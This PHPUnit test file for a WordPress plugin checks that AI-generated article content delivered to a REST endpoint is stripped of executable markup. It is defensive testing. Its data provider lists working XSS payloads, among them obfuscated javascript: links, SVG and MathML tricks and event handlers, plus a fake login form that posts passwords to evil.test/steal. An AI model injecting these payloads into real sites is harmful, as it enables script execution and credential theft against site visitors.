<?php
/**
 * Cloud output reaches posts only filtered.
 *
 * @package Igny8\Tests
 */

declare( strict_types=1 );

namespace Igny8\Tests\Results;

use Igny8\Tests\Support\Cloud_Fixtures;
use Igny8\Tests\Support\Cloud_Output_Assertions;
use Igny8\Tests\TestCase;

require_once dirname( __DIR__ ) . '/Support/Cloud_Fixtures.php';
require_once dirname( __DIR__ ) . '/Support/Cloud_Output_Assertions.php';

/**
 * Attack markup in a generate_content result, delivered through the signed endpoint, with no user (as
 * the cloud calls) and with an administrator as current user (unfiltered_html must not switch the
 * filtering off for model output).
 */
final class Post_Writer_Test extends TestCase {

	use Cloud_Fixtures;
	use Cloud_Output_Assertions;

	private const HEADING = "<!-- wp:heading {\"level\":3} -->\n<h3 class=\"wp-block-heading\">Still here</h3>\n<!-- /wp:heading -->";

	protected function setUp(): void {
		parent::setUp();
		$this->connect_site();
	}

	/**
	 * Each attack inside a paragraph, for each current user.
	 *
	 * @return array<string, array{0:string, 1:string}>
	 */
	public function attacks(): array {
		$vectors = array(
			'nested script tags'                  => '<scr<script>ipt>alert(1)</script>',
			'nested script tags, closed likewise' => '<scr<script>ipt>alert(1)</scr<script>ipt>',
			'script inside svg'                   => '<svg><script>alert(1)</script></svg>',
			'svg animation setting a link'        => '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="9" y="9">go</text></a></svg>',
			'mathml namespace confusion'          => '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
			'tab inside the scheme'               => '<a href="jav&#x09;ascript:alert(1)">tab</a>',
			'named colon entity'                  => '<a href="javascript&colon;alert(1)">colon</a>',
			'decimal entity in the scheme'        => '<a href="&#106;avascript:alert(1)">entity</a>',
			'image error handler'                 => '<img src=x onerror=alert(1)>',
			'iframe'                              => '<iframe src="https://evil.test/" srcdoc="<script>alert(1)</script>"></iframe>',
			'form'                                => '<form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>',
			'style element'                       => '<style>body{background:url(javascript:alert(1))}</style>',
			'event handler attributes'            => '<strong onclick="alert(1)" ONMOUSEOVER=\'alert(2)\'>bold</strong>',
			'script url in a style attribute'     => '<span style="background:url(javascript:alert(1))">styled</span>',
			'noscript closed inside an attribute' => '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
			'data urls'                           => '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
		);
		$cases   = array();
		foreach ( $vectors as $name => $vector ) {
			foreach ( array( '', 'administrator' ) as $role ) {
				$cases[ $name . ( '' === $role ? ', no user' : ', as ' . $role ) ] = array( $vector, $role );
			}
		}
		return $cases;
	}

	/**
	 * @dataProvider attacks
	 */
	public function test_a_delivered_article_keeps_its_text_and_blocks_but_nothing_executable( string $vector, string $role ): void {
		$content = "<!-- wp:paragraph -->\n<p>Before {$vector} after.</p>\n<!-- /wp:paragraph -->\n\n" . self::HEADING;

		$stored = $this->deliver_article( 'job_attack', $content, $role );

		$this->assert_nothing_executable( $stored );
		$this->assertStringContainsString( '<p>Before ', $stored );
		$this->assertStringContainsString( 'after.</p>', $stored );
		$this->assertSame( array( array( 'core/paragraph', array(), array() ), array( 'core/heading', array( 'level' => 3 ), array() ) ), self::block_tree( $stored ) );
		$this->assertStringEndsWith( self::HEADING, $stored, 'the legitimate block is untouched' );
	}

	/**
	 * @dataProvider current_users
	 */
	public function test_markup_in_a_block_attribute_is_filtered( string $role ): void {
		$content = "<!-- wp:igny8/related-articles {\"heading\":\"Read \\u003cimg src=x onerror=alert(1)\\u003e more\",\"count\":3} /-->\n\n" . self::HEADING;

		$stored = $this->deliver_article( 'job_attribute', $content, $role );

		$this->assert_nothing_executable( $stored );
		$this->assertSame( 'igny8/related-articles', self::block_tree( $stored )[0][0] );
		$this->assertSame( 3, self::block_tree( $stored )[0][1]['count'] );
	}

	/**
	 * @dataProvider current_users
	 */
	public function test_text_fields_are_stored_as_plain_text_within_their_limits( string $role ): void {
		$job                                = self::completed_job( 'job_text', $this->create_task() );
		$job['result']['title']             = '<script>alert(1)</script>Composting <em>now</em>';
		$job['result']['excerpt']           = '<img src=x onerror=alert(1)>A <b>short</b> guide.';
		$job['result']['meta_title']        = '<a href="javascript:alert(1)">Compost</a> ' . str_repeat( 'a', 300 );
		$job['result']['meta_description']  = "<style>p{}</style>Rich\nsoil.";
		$this->log_in_as( $role );
		$body = self::delivery_body( $job );

		$post_id = (int) $this->rest( 'POST', '/igny8/v1/deliveries', $body, $this->delivery_headers( $body, 'job_text' ) )->get_data()['post_id'];

		$post = get_post( $post_id );
		$this->assertSame( 'Composting now', $post->post_title );
		$this->assertSame( 'A short guide.', $post->post_excerpt );
		$meta_title = (string) get_post_meta( $post_id, '_igny8_meta_title', true );
		$this->assertSame( 200, mb_strlen( $meta_title ) );
		$this->assertStringStartsWith( 'Compost aaa', $meta_title );
		$this->assertSame( 'Rich soil.', get_post_meta( $post_id, '_igny8_meta_description', true ) );
	}

	/**
	 * Delivers a generate_content result with this content and returns the stored post_content.
	 *
	 * @param string $job_id  Job id.
	 * @param string $content content_blocks of the result.
	 * @param string $role    Role of the current user; '' for none.
	 */
	private function deliver_article( string $job_id, string $content, string $role ): string {
		$job                             = self::completed_job( $job_id, $this->create_task() );
		$job['result']['content_blocks'] = $content;
		$this->log_in_as( $role );
		$body = self::delivery_body( $job );

		$response = $this->rest( 'POST', '/igny8/v1/deliveries', $body, $this->delivery_headers( $body, $job_id ) );

		$this->assertSame( 200, $response->get_status(), (string) wp_json_encode( $response->get_data() ) );
		return (string) get_post_field( 'post_content', (int) $response->get_data()['post_id'], 'raw' );
	}
}
